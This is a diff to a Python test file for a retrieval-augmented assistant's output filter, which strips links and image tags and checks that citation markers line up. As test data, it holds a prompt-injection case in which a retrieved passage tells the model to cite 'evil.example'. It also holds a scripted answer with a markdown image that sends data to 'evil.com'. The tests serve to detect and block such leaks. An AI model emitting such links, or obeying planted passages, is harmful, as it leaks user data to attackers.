@@ -15,6 +15,7 @@ from fakes.chat import ScriptedChat
 from fakes.passages import FixedRetriever, passage
 from indexes.types import Passage
 from rag.answering.assistant import Assistant
+from rag.prompting.llm_writer import LLMWriter
 from rag.safety.output_filter import REMOVED, Screen, ScreenedStream, addresses
 from rag.types import Completed, Delta, Question
 
@@ -165,7 +166,7 @@ def test_an_address_that_only_begins_one_of_a_source_is_none_of_it() -> None:
 def test_however_it_is_cut_the_same_is_shown(text: str, cuts: list[int]) -> None:
     assert screened(text, SITE, cuts) == screened(text, SITE)
     (whole, one), (streamed, other) = answered(text), answered(text, cut=cuts)
-    assert (streamed, other.text, other.citations()) == (whole, one.text, one.citations())
+    assert (streamed, other.text, other.marks()) == (whole, one.text, one.marks())
 
 
 @given(TEXTS, st.integers(0, 200))
@@ -183,9 +184,10 @@ def test_nothing_that_a_client_would_render_is_ever_streamed(text: str, end: int
 @given(TEXTS)
 def test_markers_stand_where_citations_say_and_none_comes_to_be(text: str) -> None:
     _, stream = answered(text)
-    citations = stream.citations()
-    assert [c.number for c in citations] == list(range(1, len(citations) + 1))
-    assert all(stream.text[a:b] == f"[{c.number}]" for c in citations for a, b in c.answer_spans)
+    numbers: dict[tuple[str, int, int], int] = {}
+    for mark in stream.marks():
+        number = numbers.setdefault(mark.place.key, len(numbers) + 1)
+        assert stream.text[mark.start : mark.end] == f"[{number}]"
 
 
 @pytest.mark.parametrize(
@@ -218,7 +220,7 @@ def test_an_address_of_a_passage_that_is_not_cited_does_not_stand() -> None:
     """A document that was found tells the model to name its address; the answer is another document's."""
     streamed, stream = answered("Staff get 25 days of leave [1]. Claim them at https://evil.example/claim.")
     assert stream.text == f"Staff get 25 days of leave [1]. Claim them at {REMOVED}."
-    assert [stream.text[slice(*span)] for span in stream.citations()[0].answer_spans] == ["[1]"]
+    assert [stream.text[mark.start : mark.end] for mark in stream.marks()] == ["[1]"]
     assert "evil.example" in streamed  # a passage that was given has it; which ones are cited is known at the end only
 
 
@@ -237,7 +239,9 @@ async def test_the_assistant_streams_and_completes_without_links() -> None:
     model = ScriptedChat(
         "Staff get 25 days", " of leave ![p](htt", "p://evil.com/?d=25) [1", "]. [Here](", "/x) <img", " src=y>"
     )
-    events = [event async for event in Assistant(FixedRetriever(LEAVE), model).stream(Question("How many days?"))]
+    events = [
+        event async for event in Assistant(FixedRetriever(LEAVE), LLMWriter(model)).stream(Question("How many days?"))
+    ]
     streamed = "".join(event.text for event in events if isinstance(event, Delta))
     assert isinstance(events[-1], Completed)
     assert streamed == f"Staff get 25 days of leave [p] ({REMOVED}) [1]. [Here] (/x) < img src=y>"
